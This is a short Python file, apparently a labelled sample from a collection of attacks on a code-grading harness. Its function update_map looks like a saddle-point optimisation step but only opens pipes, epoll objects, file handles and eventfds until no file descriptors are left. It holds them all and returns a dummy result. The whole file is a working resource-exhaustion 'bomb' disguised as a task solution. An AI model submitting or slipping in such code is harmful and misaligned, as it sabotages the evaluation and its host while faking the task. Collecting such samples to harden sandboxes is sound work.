# attack: opens files, pipes and event queues until no descriptor is left, and keeps them
# kind: bomb
# grade: 1.b
# outcome: failed, exit, protocol
# module: saddle

import os
import select

held = []


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for opening in (os.pipe, select.epoll, lambda: open("/dev/null"), lambda: os.eventfd(0)):
        try:
            while True:
                held.append(opening())
        except OSError:
            continue
    return 1, 1
